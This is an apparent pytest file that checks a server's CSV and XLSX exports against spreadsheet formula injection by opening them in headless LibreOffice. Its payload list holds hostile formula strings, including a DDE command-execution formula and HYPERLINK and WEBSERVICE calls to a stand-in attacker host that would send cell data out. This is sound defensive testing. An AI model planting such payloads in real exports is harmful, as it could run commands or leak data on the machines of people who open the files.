"""LibreOffice opens the dumps of a hostile list, split by comma or by semicolon, and computes nothing of them."""

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import xlsxwriter

from server.exports.formats import FORMATS

PATIENCE_S = 100
FORMULA = "table:formula="
# LibreOffice's words for: split by this character, quoted by ", in UTF-8, from line 1.
SPLITS = {"comma": "44,34,76,1", "semicolon": "59,34,76,1"}
PAYLOADS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\0=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "   +1+1", '"=1+1', '""=1+1', "'=1+1"),
    *("x,=1+1", "x;=1+1", "x|=1+1", "x\t=1+1", "x\n=1+1", "x\r=1+1", 'x";=1+1', 'x","=1+1', 'x";"=1+1'),
    *("x; =1+1", 'x;"@SUM(1)', "x;;=1+1", ";=1+1", ",,,=1+1", "==1+1", '=cmd|"/C calc"!A0'),
    *('=HYPERLINK("http://evil.example?"&A1;"x")', '=DDE("soffice";"a";"b")', '=WEBSERVICE("http://evil.example")'),
]
TABLE = [["id", "name", "affiliation"], *([at, payload, payload] for at, payload in enumerate(PAYLOADS))]


def raw_csv(delimiter: str) -> bytes:
    """What many others write: the twin that must be caught."""
    file = io.StringIO()
    csv.writer(file, delimiter=delimiter).writerows(TABLE)
    return file.getvalue().encode()


def raw_xlsx(path: Path) -> None:
    """What xlsxwriter writes where nobody tells it otherwise."""
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        for at, row in enumerate(TABLE):
            sheet.write_row(at, 0, row)


def convert(folder: Path, out: str, *files: Path, split: str = "") -> None:
    """Let LibreOffice open files and write what it understood; one start of it for all that are split alike."""
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    infilter = [f"--infilter=Text - txt - csv (StarCalc):{SPLITS[split]}"] if split else []
    command = ["soffice", profile, "--headless", "--norestore", *infilter, "--convert-to", "fods"]
    done = subprocess.run(
        [*command, "--outdir", folder / out, *files],
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        check=False,
        env={**os.environ, "HOME": str(folder)},
    )
    assert done.returncode == 0, done.stderr


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], int]:
    """How many cells LibreOffice would compute, by file and by what it was split by."""
    if shutil.which("soffice") is None:
        reason = "LibreOffice is missing: apt-get install libreoffice-calc-nogui"
        if os.environ.get("REQUIRE_ALL_TESTS"):
            pytest.fail(reason, pytrace=False)
        pytest.skip(reason)
    folder = tmp_path_factory.mktemp("libreoffice")
    for name in ("csv", "csv-semicolon"):
        (folder / f"ours-{name}.csv").write_bytes(b"".join(FORMATS[name].pieces(TABLE)))
    for name, delimiter in (("csv", ","), ("csv-semicolon", ";")):
        (folder / f"raw-{name}.csv").write_bytes(raw_csv(delimiter))
    (folder / "ours-xlsx.xlsx").write_bytes(b"".join(FORMATS["xlsx"].pieces(TABLE)))
    raw_xlsx(folder / "raw-xlsx.xlsx")
    for split in SPLITS:
        convert(folder, split, *sorted(folder.glob("*.csv")), split=split)
    convert(folder, "workbook", *sorted(folder.glob("*.xlsx")))
    opened = [file for out in (*SPLITS, "workbook") for file in (folder / out).glob("*.fods")]
    understood = {(file.stem, file.parent.name): file.read_text("utf-8") for file in opened}
    assert len(understood) == 4 * len(SPLITS) + 2
    assert all("evil.example" in text for text in understood.values())  # the last payloads: it was read to its end
    return {place: text.count(FORMULA) for place, text in understood.items()}


def test_there_are_37_payloads():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 37


def test_libreoffice_computes_no_cell_of_ours_however_it_splits_them(formulas):
    assert {place: count for place, count in formulas.items() if place[0].startswith("ours") and count} == {}


def test_libreoffice_computes_cells_of_whoever_writes_them_as_they_are(formulas):
    """The twin: the same payloads, the same count, and none of it is nought."""
    raw = {place: count for place, count in formulas.items() if place[0].startswith("raw")}

    assert len(raw) == 5
    assert {place: count for place, count in raw.items() if count == 0} == {}
